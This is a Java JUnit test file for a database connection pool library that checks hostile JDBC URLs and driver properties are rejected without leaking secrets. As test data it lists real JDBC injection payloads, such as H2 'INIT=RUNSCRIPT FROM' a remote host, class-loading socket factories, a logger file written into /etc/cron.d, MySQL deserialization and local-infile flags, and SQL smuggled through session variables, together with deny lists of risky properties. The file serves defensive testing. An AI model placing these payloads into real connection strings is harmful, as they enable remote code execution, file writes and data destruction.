package dev.aludel.pool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.aludel.testkit.FakeDatabase;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Random;
import java.util.stream.Stream;
import org.h2.command.dml.SetTypes;
import org.h2.engine.DbSettings;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.PGProperty;

/// Addresses and properties as somebody writes them who means ill, or who mistypes a password. (F63)
@DisplayNameGeneration(ReplaceUnderscores.class)
class AHostileAddressTest {
    private static final String CANARY = "canary7f3a";

    @RegisterExtension
    final Logged log = new Logged();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?socketFactory=evil.Type",
                "jdbc:postgresql://h/d?ssl=true&SSLFACTORY=evil.Type&sslfactoryarg=x",
                "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/etc/cron.d/evil",
                "jdbc:postgresql://h/d?connectExecutor=evil.Type",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init = RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Type'",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=evil.Type",
                "jdbc:mysql://(host=h,autoDeserialize=true)/d",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d",
                "jdbc:mysql://h/d?authenticationWebAuthnCallbackHandler=evil.Type",
                "jdbc:mysql://h/d?loadBalanceExceptionChecker=evil.Type",
                "jdbc:h2:mem:d;DEFAULT_TABLE_ENGINE=evil.Type",
                "jdbc:mysql:loadbalance://a,b/d?ha.loadBalanceStrategy=evil.Type",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:sqlserver://h;trustManagerClass=evil.Type",
                "jdbc:other://h/d?socket%46actory=evil.Type",
                "jdbc:other://h/d;sock\\etFactory=evil.Type",
                "jdbc:other:tc:14:///d?TC_INITFUNCTION=evil.Type::init",
                "jdbc:other://h/d:clientRerouteServerListJNDIName=evil;"
            })
    void that_would_make_the_driver_run_code_or_touch_a_file_is_refused_with_what_to_do(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("url: ")
                .hasMessageEndingWith(" is not taken from an address or text, because it makes the driver load a class,"
                        + " touch a file or run code (the value is not shown): leave it out, or set it in code with"
                        + " driverProperty(…)")
                .hasMessageNotContaining("evil");
    }

    /// What nobody has thought of yet is not taken either, of a driver that is known.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?user=app&evil=1",
                "jdbc:postgresql://h/d?evil",
                "jdbc:postgresql://h/d?%65vil=1",
                "jdbc:postgresql://h/d?socket%46actory=evil.Type",
                "jdbc:postgresql://h/d?socket%2546actory=evil.Type",
                "jdbc:postgresql://h/d?PGHOST=evil",
                "jdbc:mysql://h/d?ociConfigFile=/evil",
                "jdbc:m%79sql://h/d?ociConfigFile=/evil",
                "jdbc:mysql+srv://h/d?ociConfigFile=/evil",
                "jdbc:mysql:replication://h,i/d?user=app&ociConfigFile=/evil",
                "jdbc:mysql://(host=h,ociConfigFile=/evil)/d",
                "jdbc:mysql://(host=h,oci%43onfigFile=/evil)/d",
                "jdbc:mariadb://address=(host=h)(p ipe=/evil)/d",
                "jdbc:mariadb://h/d?credentialType=ENV&pwdKey=EVIL",
                "jdbc:mariadb://h/d?initSql=SELECT evil",
                "jdbc:sqlite:x.db?temp_store_directory=/evil",
                "jdbc:sqlite:file:x.db?vfs=evil",
                "jdbc:h2:mem:x;MODE=MySQL;UNHEARD=EVIL",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE;AUTO_SERVER_PORT=1",
                "jdbc:h2:mem:x;\u0131NIT=RUNSCRIPT FROM 'http://evil/x.sql'"
            })
    void with_a_parameter_that_is_not_known_to_do_no_harm_is_refused(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("url: ")
                .hasMessageContaining(" not ")
                .hasMessageEndingWith(": leave it out, or set it in code with driverProperty(…)")
                .hasMessageNotContainingAny("evil.Type", "/evil", "EVIL", "RUNSCRIPT");
    }

    @Test
    void is_told_which_of_its_parameters_it_is_unless_that_may_be_a_secret() {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url("jdbc:postgresql://h/d?user=app&sslmod=canary7f3a")))
                .hasMessage("url: 'sslmod' is not among the parameters of PostgreSQL's driver that are known to do no"
                        + " harm (did you mean 'sslmode'? its value is not shown): leave it out, or set it in code with"
                        + " driverProperty(…)");
        assertThatThrownBy(() -> Pool.of(settings -> settings.url("jdbc:mysql://h/d?password=a&canary=7f3a")))
                .hasMessage(
                        "url: one of its parameters is not among the parameters of MariaDB's and MySQL's driver that"
                                + " are known to do no harm (not shown, since it may be part of a secret): leave it out, or set"
                                + " it in code with driverProperty(…)");
    }

    /// H2 makes SQL of the values: a harmless setting may call a function that writes a file.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;LOCK_TIMEOUT=CSVWRITE('/tmp/evil','SELECT 1')",
                "jdbc:h2:mem:x;lock_timeout=(SELECT evil)",
                "jdbc:h2:mem:x;SCHEMA=\"evil\""
            })
    void with_a_value_that_h2_would_take_for_sql_is_refused(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .hasMessageStartingWith("url: the value of '")
                .hasMessageEndingWith(
                        "(not shown) must have no parentheses, semicolons, comments or quotes in it, because"
                                + " H2 makes SQL of it: mend it, or set it in code with driverProperty(…)")
                .hasMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;\\INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;I\\N\\IT\\ =RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;LOCK_TIMEOUT=1\\;CALL evil"
            })
    void with_a_backslash_in_the_settings_of_h2_is_refused(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .hasMessageStartingWith("url: a backslash hides from us what H2 is told")
                .hasMessageNotContaining("evil");
    }

    @Test
    void of_sqlite_loads_no_file_from_elsewhere() {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url("jdbc:sqlite::resource:http://evil/x.db")))
                .hasMessageStartingWith("url: SQLite's ':resource:' is not taken from an address or text")
                .hasMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h:5432/d?sslmode=verify-full&sslrootcert=/x&ApplicationName=trips",
                "jdbc:postgresql://a,b/d?targetServerType=primary&sspiServiceClass=POSTGRES&options=-c%20x%3Dy",
                "jdbc:postgresql://h/d?options=-c init=1&currentSchema=a,b&ssl&user=app&password=x=y",
                "jdbc:mysql://h/d?useUnicode=true&characterEncoding=utf8&serverTimezone=UTC&useSSL=false",
                "jdbc:mysql:replication://address=(host=h)(port=1)(type=source),i/d?rewriteBatchedStatements=true",
                "jdbc:mariadb://a,b:3307/d?user=root&sessionVariables=sql_mode='ANSI',wait_timeout=9&sslMode=trust",
                "jdbc:sqlite:file:x?mode=memory&cache=shared&busy_timeout=5000&date_class=TEXT&empty_result_callback=1",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE",
                "jdbc:h2:file:./a=b/x;IFEXISTS=TRUE;TIME ZONE=GMT+1:00;LOCK_TIMEOUT=60000;NON_KEYWORDS=USER,VALUE",
                "jdbc:h2:C:\\data\\x;USER=sa;PASSWORD=a(b)'c",
                "jdbc:other://h/d?whatever=1"
            })
    void that_means_no_harm_is_taken(String url) {
        assertThatCode(() -> TextProperties.check(url)).doesNotThrowAnyException();
    }

    @Test
    void may_set_every_parameter_of_its_driver_but_a_few() throws Exception {
        assertThat(refused("jdbc:postgresql://h/d"))
                .containsExactlyInAnyOrder(
                        "authenticationPluginClassName",
                        "classLoaderStrategy",
                        "connectExecutor",
                        "connectExecutorArg",
                        "loggerFile",
                        "loggerLevel",
                        "PGDBNAME",
                        "PGHOST",
                        "PGPORT",
                        "socketFactory",
                        "socketFactoryArg",
                        "sslfactory",
                        "sslfactoryarg",
                        "sslhostnameverifier",
                        "sslpasswordcallback",
                        "xmlFactoryFactory");
        assertThat(refused("jdbc:mariadb://h/d"))
                .containsExactlyInAnyOrder(
                        "allowLocalInfile",
                        "credentialType",
                        "initSql",
                        "maxIdleTime",
                        "maxPoolSize",
                        "minPoolSize",
                        "pipe",
                        "pool",
                        "poolName",
                        "poolValidMinDelay",
                        "registerJmxPool",
                        "socketFactory",
                        "tlsSocketType");
        assertThat(refused("jdbc:sqlite:x.db"))
                .containsExactlyInAnyOrder("enable_load_extension", "temp_store_directory");
    }

    @Test
    void of_h2_may_set_all_but_a_few() {
        Stream<String> names =
                Stream.concat(SetTypes.getTypes().stream(), DbSettings.DEFAULT.getSettings().keySet().stream());

        assertThat(names.filter(name -> !KnownDriver.H2.takes(name)))
                .containsExactlyInAnyOrder(
                        "@",
                        "AUTHENTICATOR",
                        "BUILTIN_ALIAS_OVERRIDE",
                        "CLUSTER",
                        "CREATE_BUILD",
                        "DATABASE_EVENT_LISTENER",
                        "DEFAULT_CONNECTION",
                        "DEFAULT_TABLE_ENGINE",
                        "JAVA_OBJECT_SERIALIZER",
                        "REDO_LOG_BINARY",
                        "TRACE_LEVEL_FILE",
                        "TRACE_LEVEL_SYSTEM_OUT",
                        "TRACE_MAX_FILE_SIZE");
    }

    private static List<String> refused(String url) throws SQLException {
        return Arrays.stream(DriverManager.getDriver(url).getPropertyInfo(url, new Properties()))
                .map(property -> property.name)
                .filter(name -> catchThrowable(() -> TextProperties.check(url + "?" + name + "=1")) != null)
                .toList();
    }

    @Test
    void of_postgresql_cannot_name_any_class_that_the_driver_would_load() {
        List<String> risky = Arrays.stream(PGProperty.values())
                .map(PGProperty::getName)
                .filter(name -> catchThrowable(() -> RiskyProperties.refuseAmong(List.of(name), "")) != null)
                .toList();

        assertThat(risky)
                .containsExactlyInAnyOrder(
                        "authenticationPluginClassName",
                        "classLoaderStrategy",
                        "connectExecutor",
                        "connectExecutorArg",
                        "loggerFile",
                        "loggerLevel",
                        "socketFactory",
                        "socketFactoryArg",
                        "sslfactory",
                        "sslfactoryarg",
                        "sslhostnameverifier",
                        "sslpasswordcallback",
                        "xmlFactoryFactory");
    }

    @Test
    void is_refused_as_text_too_be_it_a_property_of_hikaricp() {
        assertThatThrownBy(() -> Pool.of(Map.of(
                        "spring.datasource.hikari.jdbc-url", "jdbc:postgresql://h/d",
                        "spring.datasource.hikari.data-source-properties.socketFactory", "evil.Type")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("driver properties: a property that ends in 'factory' is not taken")
                .hasMessageNotContaining("evil");
        assertThatThrownBy(() -> Pool.of(Map.of(
                        "spring.datasource.hikari.jdbc-url", "jdbc:h2:mem:x",
                        "spring.datasource.hikari.data-source-properties.LOCK_TIMEOUT", "CSVWRITE('evil','SELECT 1')")))
                .hasMessageStartingWith("driver properties: the value of 'LOCK_TIMEOUT' (not shown) must have no")
                .hasMessageNotContaining("evil");
        assertThatThrownBy(() -> Pool.of(Map.of(
                        "spring.datasource.hikari.jdbc-url", "jdbc:other://h/d",
                        "spring.datasource.hikari.data-source-properties.queryInterceptors", "evil.Type")))
                .hasMessageNotContaining("evil");
        assertThatThrownBy(() -> Pool.of(Map.of("aludel.pool.url", "jdbc:h2:mem:x;INIT=SELECT 1")))
                .hasMessageStartingWith("url: 'init' is not taken");
    }

    @Test
    void is_refused_in_a_data_source_that_text_names() {
        assertThatThrownBy(() -> source("org.postgresql.ds.PGSimpleDataSource", "sslfactory", "evil.Type"))
                .hasMessageStartingWith("driver properties: a property that ends in 'factory' is not taken")
                .hasMessageEndingWith(": leave it out, or make the data source in code for connections(…)");
        assertThatThrownBy(() -> source(
                        "org.postgresql.ds.PGSimpleDataSource", "url", "jdbc:postgresql://h/d?socketFactory=evil.Type"))
                .hasMessageStartingWith("url: a property that ends in 'factory' is not taken");
        assertThatThrownBy(() -> source("org.h2.jdbcx.JdbcDataSource", "url", "jdbc:h2:mem:x;INIT=CALL evil"))
                .hasMessageStartingWith("url: 'init' is not taken");
        assertThatThrownBy(() -> source("org.sqlite.SQLiteDataSource", "loadExtension", "true"))
                .hasMessageStartingWith("driver properties: 'loadExtension' is not among the parameters of SQLite");
        assertThatCode(() -> source("org.postgresql.ds.PGSimpleDataSource", "serverName", "h"))
                .doesNotThrowAnyException();
    }

    @Test
    void hidden_in_what_a_data_source_makes_an_address_of_is_refused() {
        for (String place : List.of("serverName", "databaseName")) {
            assertThatThrownBy(() ->
                            source("org.postgresql.ds.PGSimpleDataSource", place, "h/d?sslfactory=canary.Type&x="))
                    .hasMessageStartingWith(
                            "driver properties: the value of '" + place + "' (not shown) must be letters")
                    .hasMessageNotContaining("canary");
        }
        assertThatThrownBy(() -> source("org.postgresql.ds.PGSimpleDataSource", "url", "%6adbc:postgresql://canary"))
                .hasMessage("driver properties: 'url' must begin with 'jdbc:' (it is not shown): mend it");
        assertThatThrownBy(() -> source("org.postgresql.ds.PGSimpleDataSource", "loggerFile", "jdbc:postgresql:x"))
                .hasMessageStartingWith("driver properties: ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mariadb://h/d?allowMultiQueries=true&sessionVariables=wait_timeout=9/*'*/;DROP TABLE evil/*'*/",
                "jdbc:mariadb://h/d?sessionVariables=sql_mode=(SELECT evil())",
                "jdbc:mysql://h/d?sessionVariables=x=1%3BDROP TABLE evil",
                "jdbc:mysql://h/d?connectionCollation=x -- evil",
                "jdbc:mysql://address=(host=h)(sessionVariables=evil)/d"
            })
    void with_a_value_that_mysql_would_take_for_more_sql_is_refused(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .hasMessageContaining(
                        " must have no parentheses, semicolons, comments or quotes in it, because MariaDB's"
                                + " and MySQL's driver makes SQL of it: mend it")
                .hasMessageNotContaining("evil");
    }

    private static void source(String type, String property, String value) {
        Pool.of(Map.of(
                        "spring.datasource.hikari.data-source-class-name",
                        type,
                        "spring.datasource.hikari.data-source-properties." + property,
                        value))
                .close();
    }

    /// Whether any ran.
    @Test
    void that_names_a_class_by_text_runs_no_code_of_one_that_is_no_driver_or_data_source() {
        for (String key : List.of("driver-class-name", "data-source-class-name")) {
            assertThatThrownBy(() -> Pool.of(Map.of("spring.datasource.hikari." + key, Evil.class.getName())))
                    .hasMessageContaining(" must be a java");
        }
        assertThat(System.getProperty(Evil.RAN)).isNull();
    }

    /// A class that should never have been.
    public static final class Evil {
        static final String RAN = "aludel.test.evil";

        static {
            System.setProperty("aludel.test.evil", "ran");
        }
    }

    @Test
    void says_in_code_what_it_may_not_say_itself() throws Exception {
        FakeDatabase database = new FakeDatabase();
        DriverManager.registerDriver(database.driver());
        try (Pool pool = Pool.of(settings -> settings.url(database.url())
                .user("app")
                .driverProperty("socketFactory", "of.our.own.Type")
                .driverProperty("stringtype", "unspecified"))) {
            pool.getConnection().close();

            assertThat(database.backend(1).properties())
                    .containsEntry("socketFactory", "of.our.own.Type")
                    .containsEntry("stringtype", "unspecified")
                    .containsEntry("user", "app");
        } finally {
            DriverManager.deregisterDriver(database.driver());
        }
    }

    @Test
    void with_a_control_character_in_any_property_never_reaches_the_driver() throws Exception {
        FakeDatabase database = new FakeDatabase();
        DriverManager.registerDriver(database.driver());
        try {
            for (String control : List.of("\0", "\n", "\r", "\u001b", "\u007f", "\u0085")) {
                String bad = CANARY + control;
                for (Throwable told : List.of(
                        catchThrowable(() -> new Settings().driverProperty("stringtype", bad)),
                        catchThrowable(() -> new Settings().driverProperty(bad, "x")),
                        catchThrowable(() -> new Settings().origin().textProperty("stringtype", bad)),
                        catchThrowable(() -> Pool.of(
                                settings -> settings.url("jdbc:postgresql://h/d?x=" + escaped(control) + CANARY))))) {
                    assertThat(told)
                            .isInstanceOf(IllegalArgumentException.class)
                            .hasMessageContaining("must not contain NUL or control characters")
                            .hasMessageNotContaining(CANARY);
                }
                try (Pool pool = Pool.of(
                        settings -> settings.url(database.url()).credentials(() -> new Credentials("app", bad)))) {
                    assertThatThrownBy(pool::getConnection).isInstanceOf(ConnectFailedException.class);
                }
            }
            assertThat(database.calls("connect")).isZero();
        } finally {
            DriverManager.deregisterDriver(database.driver());
        }
    }

    private static String escaped(String control) {
        return "%%%02x".formatted((int) control.charAt(0));
    }

    /// Whatever is wrong with an address, and wherever the secret stands in it: no message, log line or
    /// text shows it. A failure names its seed.
    @Test
    void never_shows_its_secret() {
        for (long seed = 0; seed < 600; seed++) {
            String url = hostile(new Random(seed));
            StringWriter shown = new StringWriter();
            try (Pool pool = Pool.of(settings ->
                    settings.url(url).timeout(Duration.ofMillis(50)).connectTimeout(Duration.ofMillis(40)))) {
                shown.append(pool.toString()).append(pool.snapshot().toString());
                Throwable told = catchThrowable(() -> pool.getConnection().close());
                if (told != null && told.getMessage() != null) {
                    shown.append(told.getMessage());
                }
                shown.append(pool.explain().text());
            } catch (RuntimeException e) {
                e.printStackTrace(new PrintWriter(shown));
            }
            assertThat(shown.toString()).as("seed " + seed).doesNotContain(CANARY);
        }
        assertThat(log.lines()).noneMatch(line -> line.contains(CANARY));
    }

    private static String hostile(Random random) {
        List<String> parts = List.of(
                "@",
                "@@",
                ":",
                "/",
                "//",
                "?",
                "&",
                ";",
                "=",
                "%",
                "%00",
                "%zz",
                "%40",
                "#",
                "'",
                "\"",
                "{",
                "(",
                ")",
                " ",
                "\0",
                "\n",
                "\u001b",
                "\u202e",
                "password=",
                "user=",
                "socketFactory=",
                "INIT=",
                "127.0.0.1:1",
                "d",
                "[::1]",
                "sslmode=",
                "…",
                "x",
                ",");
        StringBuilder url =
                new StringBuilder(List.of("jdbc:postgresql:", "jdbc:postgresql://", "jdbc:h2:mem:", "jdbc:", "")
                        .get(random.nextInt(5)));
        int secret = random.nextInt(8);
        for (int i = 0; i < 8; i++) {
            if (i == secret) {
                url.append(random.nextBoolean() ? "app:" : "password=").append(CANARY);
            }
            url.append(parts.get(random.nextInt(parts.size())));
        }
        return url.toString();
    }
}
